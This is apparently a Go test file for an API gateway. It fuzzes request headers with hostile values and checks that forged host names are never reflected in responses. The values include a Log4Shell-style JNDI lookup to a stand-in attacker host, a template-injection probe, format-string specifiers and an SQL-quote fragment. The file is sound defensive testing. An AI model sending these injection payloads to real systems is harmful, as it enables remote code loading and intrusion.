package api_test

import (
	"net/http"
	"strings"
	"testing"

	"fledge.dev/gateway/internal/apitest"
)

// Values of headers that HTTP allows and no client of ours sends.
var hostileValues = map[string]string{
	"bytes that are no text": "\xff\xfe", "half a character": "caf\xc3", "another alphabet": "пример", "a tab": "a\tb", "quotes": `"';--`,
	"a template": "${jndi:ldap://evil.example/x} {{7*7}} %s%n", "a list": "a, b, c; d=e", "much": strings.Repeat("x", 8000), "nothing": "",
}

var (
	// bystanders are read by the gateway or a service, and no request depends on them.
	bystanders = []string{
		"User-Agent", "Accept-Language", "Accept", "Cookie", "Referer", "X-Request-Id", "X-Forwarded-For", "X-Forwarded-Host", "X-Forwarded-Proto",
		"Traceparent", "Tracestate", "If-None-Match", "If-Modified-Since", "Range", "X-User-Staging-Id", "Grpc-Timeout",
	}
	// deciders are what a request is refused for.
	deciders = []string{"Authorization", "Content-Type", "Content-Encoding", "Origin", "Sec-Fetch-Site", "Stripe-Signature", "X-Hub-Signature-256", "X-Github-Event"}
)

// TestHostileHeaders: whatever is in a header, the answer is one that the
// description foresees, and it is no failure of ours.
func TestHostileHeaders(t *testing.T) {
	g := apitest.Ready(t)
	_, admin := g.Issuer.Admin("admin@example.com")
	for _, route := range g.Served() {
		hostile := func(what string, names ...string) {
			t.Helper()
			set := func(r *http.Request) {
				for _, name := range names {
					r.Header[name] = []string{hostileValues[what]}
				}
			}
			if a := g.Send(route, apitest.Bearer(admin), set); a.Status >= http.StatusInternalServerError {
				t.Errorf("%s with %s in %v: %d %s", route, what, names, a.Status, a.Body)
			}
		}
		for what := range hostileValues {
			if what == "much" { // the server takes 32 KiB of headers
				hostile(what, "User-Agent", "X-User-Staging-Id", "Cookie")
				continue
			}
			hostile(what, bystanders...)
		}
		for _, name := range deciders {
			for _, what := range []string{"bytes that are no text", "a list", "nothing"} {
				hostile(what, name)
			}
		}
	}
}

// TestAForgedHostIsNotRepeated: no answer leads, or lets a cache lead others, to a
// name that the client made up.
func TestAForgedHostIsNotRepeated(t *testing.T) {
	g := apitest.Ready(t)
	_, admin := g.Issuer.Admin("admin@example.com")
	const evil = "evil.example"
	g.Releases.Update = apitest.AnUpdate()
	for _, route := range g.Served() {
		a := g.Send(route, apitest.Bearer(admin), func(r *http.Request) { r.Host = evil },
			apitest.Header("X-Forwarded-Host", evil), apitest.Header("X-Forwarded-Server", evil), apitest.Header("X-Forwarded-Prefix", "/"+evil), apitest.Header("Forwarded", "host="+evil),
			apitest.Header("X-Original-Url", "https://"+evil), apitest.Header("X-Rewrite-Url", "/"+evil), apitest.Header("X-Host", evil), apitest.Header("Referer", "https://"+evil))
		if strings.Contains(string(a.Body), evil) {
			t.Errorf("%s: the body repeats the name: %s", route, a.Body)
		}
		for name, values := range a.Header {
			if strings.Contains(strings.Join(values, " "), evil) {
				t.Errorf("%s: %s: %v", route, name, values)
			}
		}
	}
}

// TestHeadIsGetWithoutTheBody, for monitors and caches. Kratos' callbacks are no reads.
func TestHeadIsGetWithoutTheBody(t *testing.T) {
	g := apitest.Ready(t)
	_, admin := g.Issuer.Admin("admin@example.com")
	for _, route := range g.Served() {
		sample := apitest.Samples[route]
		if !strings.HasPrefix(route, "GET ") {
			continue
		}
		options := []apitest.Option{apitest.Bearer(admin), apitest.Cookie("fledge_session=s1"), apitest.Header("Sec-Fetch-Site", "same-origin")}
		got := g.Do(http.MethodHead, sample.Path, options...)
		if strings.HasPrefix(sample.Path, apitest.CallbackPath) {
			if got.Is(http.StatusMethodNotAllowed); got.Header.Get("Allow") == "" {
				t.Errorf("%s: no Allow", route)
			}
			continue
		}
		want := g.Get(sample.Path, options...)
		if got.Status != want.Status || len(got.Body) > 0 || got.Header.Get("Content-Type") != want.Header.Get("Content-Type") {
			t.Errorf("%s: HEAD %d with %d bytes of %q, GET %d of %q", route, got.Status, len(got.Body), got.Header.Get("Content-Type"), want.Status, want.Header.Get("Content-Type"))
		}
	}
}
